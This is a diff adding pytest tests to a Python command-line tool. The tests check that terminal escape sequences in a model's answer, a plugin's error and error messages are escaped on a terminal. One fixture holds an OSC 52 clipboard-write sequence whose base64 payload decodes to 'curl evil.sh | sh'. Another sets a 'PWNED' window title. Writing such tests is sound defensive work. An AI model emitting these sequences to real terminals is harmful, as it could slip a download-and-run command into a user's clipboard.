@@ -290,3 +290,70 @@ def test_a_file_name_that_is_not_utf8_is_listed_recorded_and_shown(tmp_path: Pat
     shown = dsh("sessions", "show", listed[0]["id"], "--config", str(cfg), cwd=tmp_path)
     assert shown.returncode == 0, shown.stderr
     assert "list [1.1]" in shown.stdout
+
+
+HOSTILE_ANSWER = "Done.\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[2J\nsecond\tline\rX"  # OSC 52: a clipboard write
+
+
+def test_on_a_terminal_the_answers_escape_sequences_are_shown_not_obeyed(tmp_path: Path) -> None:
+    import pty
+
+    cfg = config(tmp_path, [final(HOSTILE_ANSWER)])
+    environ = {k: v for k, v in os.environ.items() if not k.startswith("DSH_")}
+    leader, follower = pty.openpty()
+    process = subprocess.Popen([sys.executable, "-m", "dsh_core", "--config", str(cfg), "-p", "go"], cwd=tmp_path,
+                               env=environ, stdout=follower, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
+    os.close(follower)
+    shown = b""
+    while True:
+        try:
+            chunk = os.read(leader, 4096)
+        except OSError:  # EIO: the child closed its end
+            break
+        if not chunk:
+            break
+        shown += chunk
+    os.close(leader)
+    assert process.wait(timeout=60) == 0
+    # Newlines and tabs are kept (the terminal shows \n as \r\n); everything that drives a terminal is escaped.
+    assert shown == (b"Done.\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2J\r\n"
+                     b"second\tline\\rX\r\n")
+    # Into a pipe the answer goes as the model wrote it: it is data there.
+    piped = subprocess.run([sys.executable, "-m", "dsh_core", "--config", str(cfg), "-p", "go"], cwd=tmp_path,
+                           env=environ, capture_output=True, timeout=60, check=False)
+    assert piped.returncode == 0 and piped.stdout == (HOSTILE_ANSWER + "\n").encode()
+
+
+RAISING_PLUGIN = """
+from dsh_core import hookimpl, plugin as declare
+
+class Raising:
+    @hookimpl
+    def dsh_prompt_sections(self, context):
+        raise RuntimeError("bad \\x1b]0;PWNED\\x07\\x1b[2J title")
+
+@declare(config_schema={"type": "object"})
+def plugin(scope, config):
+    return Raising()
+"""
+
+
+def test_why_a_run_stopped_is_shown_with_its_escape_sequences_escaped(tmp_path: Path) -> None:
+    cfg = config(tmp_path, [final("never")])
+    (tmp_path / "raising_plugin.py").write_text(RAISING_PLUGIN)
+    with cfg.open("a") as out:
+        out.write('\n[[plugins]]\nid = "raising"\nuse = "raising"\n')
+    env = {"DSH_PLUGINS": "raising=raising_plugin:plugin",
+           "PYTHONPATH": os.pathsep.join([str(tmp_path), os.environ.get("PYTHONPATH", "")])}
+    done = dsh("--config", str(cfg), "-p", "go", cwd=tmp_path, env=env)
+    assert done.returncode == 1 and "\x1b" not in done.stderr and "\x07" not in done.stderr
+    assert "dsh: run stopped: error: RuntimeError: bad \\x1b]0;PWNED\\x07\\x1b[2J title" in done.stderr
+
+
+def test_an_error_message_is_shown_with_its_escape_sequences_escaped(capsys: pytest.CaptureFixture[str]) -> None:
+    from dsh_core.clirun import fail
+
+    with pytest.raises(SystemExit) as exited:
+        fail("quoted \x1b[2Jtext\x9b\nsecond line\tkept", 2)
+    assert exited.value.code == 2
+    assert capsys.readouterr().err == "dsh: error: quoted \\x1b[2Jtext\\x9b\nsecond line\tkept\n"
